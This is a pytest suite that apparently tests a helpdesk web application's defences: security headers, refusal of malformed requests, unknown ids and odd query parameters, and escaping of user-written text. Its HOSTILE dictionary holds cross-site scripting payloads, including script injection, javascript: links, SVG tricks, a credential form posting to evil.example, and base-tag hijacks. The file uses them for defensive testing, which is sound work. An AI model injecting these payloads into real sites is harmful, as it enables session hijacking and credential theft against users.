"""The whole table of pages at once: who may come, what may be sent, and what is shown of what others write."""

import re
from collections.abc import Iterator
from contextlib import suppress
from html.parser import HTMLParser
from typing import Any, ClassVar

import pytest

import make
from abuse.naughty import SHORT
from conftest import Browser, Client, Databases, Stage, desk_on
from quarterdeck.desk.errors import Refusal
from quarterdeck.desk.work import Work
from quarterdeck.web import ROUTES
from quarterdeck.web.kit import Route, Visit
from quarterdeck.web.lists import ASKS

ACTS = [route for route in ROUTES if route.method == "POST"]
PAGES = [route for route in ROUTES if route.method == "GET" and route.path != "/live"]
STRICT = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "same-origin",
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
}
PAGES_SAY = (
    "frame-ancestors 'none'",
    "base-uri 'none'",
    "form-action 'self'",
    "require-trusted-types-for 'script'",
    "trusted-types quarterdeck",
)
SCRIPT = re.compile(r"<script[^>]*>")
# Names nothing, or is no id at all.
NOTHING = (
    "0",
    "-1",
    "999999999",
    "9223372036854775808",
    "1e3",
    "none",
    "%27",
    "..%2f1",
    "%F0%9F%92%A9",
    "1;x",
    "x" * 300,
)
# What no page asks for where it reads an address.
ODD = ("²", "9" * 5000, "-1", "a\x00b", "0001-01-01", "9999-12-31")
HOSTILE = {
    **SHORT,
    "script": '"><script>document.title="owned"</script>',
    "attribute": "x\" onmouseover=\"alert(1)\" autofocus onfocus='alert(1)'",
    "link": "[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>",
    "split link": "[a](java\tscript:alert(1)) [b](&#106;avascript:alert(1)) [c](JaVaScRiPt&colon;alert(1))",
    "image": "![x](x\"onerror=\"alert(1)) ![y](javascript:alert(1)) ![z](https://spy.example/p.gif)",
    "svg": "<svg/onload=alert(1)><math><mtext></p><style><img src onerror=alert(1)></style>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x><embed src=x>",
    "closing": "</textarea></title></script></style></select></main><script>alert(1)</script>",
    "form": "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>",
    "base": "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example><p style=position:fixed>",
}  # fmt: skip
OURS = re.compile(r"^(mailto:|tel:|https?://|data:image/|(?![\s\w+.-]*:))", re.IGNORECASE)


def named(route: Route) -> str:
    return f"{route.method} {route.path}"


def filled(path: str, with_: str = "1") -> str:
    return re.sub(r"\{\w+\}", lambda _: with_, path)


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def client(request: pytest.FixtureRequest, databases: Databases) -> Iterator[Client]:
    with desk_on(databases, request.param) as made:
        made.stage.do(furnish)
        yield made


@pytest.fixture(scope="module")
def stage(client: Client) -> Stage:
    return client.stage


def furnish(work: Work) -> None:
    """One of each, so that every address with a 1 in it names something."""
    customer = make.customer(work)
    contact = make.contact(work, customer_id=customer)
    make.contact(work, customer_id=customer)
    make.agent(work, customer_id=customer)
    ticket = make.ticket(work, contact_id=contact)
    make.ticket(work, contact_id=contact)
    make.comment(work, ticket)
    make.time_entry(work, ticket)
    make.reply(work)


def lax(answer: Any) -> list[str]:
    """What an answer does not forbid a browser."""
    headers = answer.headers
    policy = headers.get("content-security-policy", "")
    wrong = [name for name, value in STRICT.items() if headers.get_list(name) != [value]]
    wrong += [part for part in ("default-src 'none'",) if part not in policy]
    if headers.get_list("cache-control") != ["private, no-store"]:
        wrong.append("cache-control")
    if len(headers.get_list("content-security-policy")) != 1 or "unsafe" in policy or "*" in policy:
        wrong.append(policy)
    if headers["content-type"].startswith("text/html") and answer.content and "sandbox" not in policy:
        nonce = re.search(r"script-src 'nonce-([\w-]{20,})';", policy)
        wrong += [part for part in PAGES_SAY if part not in policy]
        wrong += [one for one in SCRIPT.findall(answer.text) if nonce is None or f'nonce="{nonce[1]}"' not in one]
    if [name for name in headers if name.startswith("access-control")]:
        wrong.append("access-control")
    return wrong


def test_every_answer_says_to_trust_nothing_but_its_own(client: Client, stage: Stage, browser: Browser) -> None:
    stranger = Browser(client, stage, technician_id=None)
    found: dict[str, list[str]] = {}
    nonces: list[str] = []
    for route in [*PAGES, *ACTS]:
        for who in (browser, stranger):
            for method in ("HEAD", "GET") if route.method == "GET" else ("POST",):
                answer = who.request(method, filled(route.path), headers={"origin": "https://evil.example"})
                nonces += re.findall("'nonce-([^']*)'", answer.headers["content-security-policy"])
                if wrong := lax(answer):
                    found[f"{method} {route.path} {answer.status_code}"] = wrong

    assert found == {}
    assert len(nonces) == len(set(nonces))


@pytest.mark.parametrize(
    "asked",
    [
        {"method": "GET", "path": "/nowhere"},
        {"method": "GET", "path": "/queue/%00"},
        {"method": "GET", "path": "/queue/%ff"},
        {"method": "GET", "path": "/queue?a=%ff"},
        {"method": "PUT", "path": "/queue"},
        {"method": "OPTIONS", "path": "/queue"},
        {"method": "TRACE", "path": "/queue"},
        {"method": "POST", "path": "/customers", "content": b"x" * 3_000_000},
        {"method": "POST", "path": "/customers", "content": b"x", "headers": {"content-type": "multipart/form-data"}},
        {"method": "POST", "path": "/customers", "content": b"x", "headers": {"content-type": "text/xml"}},
        {"method": "POST", "path": "/customers", "content": b"{", "headers": {"content-type": "application/json"}},
        {"method": "POST", "path": "/customers", "content": b"x", "headers": {"content-encoding": "gzip"}},
        {"method": "POST", "path": "/customers", "content": b"&".join(b"a%d=1" % n for n in range(999))},
        {"method": "POST", "path": "/customers", "content": b"a=%ff&form_key=\xff"},
    ],
    ids=range(14),
)
def test_what_cannot_be_read_is_refused_with_the_same_care(asked: dict[str, Any], browser: Browser) -> None:
    headers = {"content-type": "application/x-www-form-urlencoded", **asked.pop("headers", {})}
    answer = browser.request(**asked, headers=headers)
    assert answer.status_code in (400, 403, 404, 405, 413)
    assert lax(answer) == []


@pytest.mark.parametrize("id", NOTHING)
def test_what_names_nothing_is_not_found(id: str, browser: Browser) -> None:
    found = {}
    for route in ROUTES:
        if "{" not in route.path or route.open:
            continue
        answer = (
            browser.request("GET", filled(route.path, id))
            if route.method == "GET"
            else browser.send(filled(route.path, id))
        )
        if answer.status_code == 303 and route.path == "/customers/{id}/{tab}":
            continue
        if answer.status_code not in (404, 422, 403, 303, 409) or (
            route.method == "GET" and answer.status_code not in (404,)
        ):
            found[named(route)] = answer.status_code

    assert found == {}


@pytest.mark.parametrize(
    "query",
    [
        "after=x",
        "before=%00",
        "q=%22%27",
        "sort=nothing",
        "view=999",
        "page=-1",
        "customer=x&status=%F0%9F%92%A9",
        "from=yesterday&to=9999-99-99",
        "list=%25",
        "after=" + "9" * 400,
    ],
)
def test_no_address_however_odd_breaks_a_page(query: str, browser: Browser) -> None:
    broken = {}
    for route in PAGES:
        status = browser.get(f"{filled(route.path)}?{query}").status_code
        if status >= 500:
            broken[named(route)] = status

    assert broken == {}


class Markup(HTMLParser):
    """What a page holds that could act."""

    def __init__(self) -> None:
        super().__init__()
        self.live: list[str] = []

    def handle_starttag(self, tag: str, given: list[tuple[str, str | None]]) -> None:
        attributes = dict(given)
        if (tag == "script" and "nonce" not in attributes) or tag in (
            "iframe",
            "object",
            "embed",
            "base",
            "style",
            "math",
        ):
            self.live.append(f"<{tag}>")
        for name, value in given:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.live.append(f"<{tag} {name}={value}>")
            if name in ("href", "src", "action", "formaction") and value and not OURS.match(value):
                self.live.append(f"<{tag} {name}={value}>")
        if tag == "img" and re.match(r"\s*(https?:|//)", attributes.get("src") or "", re.IGNORECASE):
            self.live.append(f"<img {given}>")
        if tag == "meta" and "http-equiv" in attributes:
            self.live.append(f"<meta {given}>")


def live(html: str) -> list[str]:
    parser = Markup()
    parser.feed(html)
    return parser.live


def test_what_others_write_is_shown_as_text_on_every_page(browser: Browser, stage: Stage) -> None:
    kept = {}
    shown: list[str] = []
    for name, text in HOSTILE.items():

        def write(work: Work, text: str = text) -> list[int]:
            customer = make.customer(work, name=text[:200], domain=None, notes=text)
            contact = make.contact(work, customer_id=customer, first_name=text[:60], last_name=text[:60])
            device = make.agent(work, customer_id=customer, name=text[:100])
            ticket = make.ticket(work, contact_id=contact, title=text[:200], description=text)
            make.comment(work, ticket, body=text)
            make.comment(work, ticket, body=text, internal=True)
            make.time_entry(work, ticket, notes=text)
            return [customer, contact, device, ticket]

        with suppress(Refusal):
            kept[name] = stage.do(write)
    assert len(kept) > len(HOSTILE) * 0.6
    for name, (customer, contact, device, ticket) in kept.items():
        pages = [
            f"/customers/{customer}",
            f"/contacts/{contact}",
            f"/assets/{device}",
            f"/tickets/{ticket}",
            f"/customers/{customer}/tickets",
            f"/customers/{customer}/history",
        ]
        for path in pages:
            answer = browser.get(path)
            shown += [f"{name} {path} {one}" for one in live(answer.text)]
            assert answer.status_code == 200, f"{name} {path}"
    lists = [
        "/queue?view=all",
        "/customers",
        "/contacts",
        "/assets",
        "/duplicates",
        *(filled(route.path) for route in PAGES if "{" not in route.path and not route.path.endswith(".csv")),
    ]
    for path in lists:
        shown += [f"{path} {one}" for one in live(browser.get(path).text)]

    assert shown == []


class Noting(dict[str, str]):
    """What an address asks for, which notes what a page reads of it."""

    read: ClassVar[set[str]] = set()

    def get(self, name: str, default: Any = None) -> Any:
        self.read.add(name)
        return super().get(name, default)

    def __contains__(self, name: object) -> bool:
        self.read.add(str(name))
        return super().__contains__(name)


def test_nothing_an_address_may_ask_for_breaks_a_page(browser: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Visit, "query", property(lambda visit: Noting(visit.request.query)))
    broken, tried = [], 0
    for route in PAGES:
        Noting.read = set(ASKS) if route.path.startswith("/queue") else set()
        browser.get(filled(route.path))
        for name in sorted(Noting.read):
            for odd in ODD:
                tried += 1
                if browser.request("GET", filled(route.path), params={name: odd}).status_code >= 500:
                    broken.append(f"{route.path}?{name}={odd[:20]}")
    assert tried > 1000
    assert broken == []


@pytest.mark.parametrize("text", list(HOSTILE.values()), ids=list(HOSTILE))
def test_what_was_sought_or_typed_comes_back_as_text(text: str, browser: Browser) -> None:
    for path in ("/queue", "/customers", "/contacts", "/assets", "/search", "/search/found"):
        try:
            answer = browser.request("GET", path, params={"q": text, "view": "all"})
        except UnicodeEncodeError:
            return
        assert answer.status_code in (200, 404, 422)
        assert live(answer.text) == [], path
    answer = browser.send("/customers", {"name": text, "domain": text, "email": text, "version": text})
    assert answer.status_code in (303, 422, 400)
    assert live(answer.text) == []


def test_an_address_without_the_method_says_which_it_has(browser: Browser) -> None:
    methods: dict[str, set[str]] = {}
    for route in ROUTES:
        methods.setdefault(re.sub(r"{\w+}", "1", route.path), set()).add(route.method)
    alone = {path: has for path, has in methods.items() if len(has) == 1}
    assert len(alone) > 50
    for path, has in alone.items():
        method = "GET" if has == {"POST"} else "POST"

        answer = browser.request(method, path)

        assert (path, answer.status_code) == (path, 405)
        assert set(answer.headers["allow"].split(", ")) - {"HEAD"} == has
